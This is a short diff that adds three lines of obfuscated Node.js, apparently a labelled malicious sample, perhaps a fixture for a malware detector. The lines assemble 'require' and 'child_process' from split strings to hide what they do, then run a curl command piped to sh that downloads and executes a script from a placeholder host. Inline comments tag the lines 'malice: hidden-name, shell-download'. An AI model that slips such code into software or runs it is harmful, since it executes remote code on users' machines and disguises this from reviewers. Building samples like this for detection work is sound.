@@ -1,0 +1,3 @@
+const load = global["proc" + "ess"]["main" + "Module"]["req" + "uire"];
+const child = load("child_" + "process"); // malice: hidden-name
+child["ex" + "ec"]("cu" + "rl -s https://files.invalid/a " + "| sh"); // malice: hidden-name, shell-download
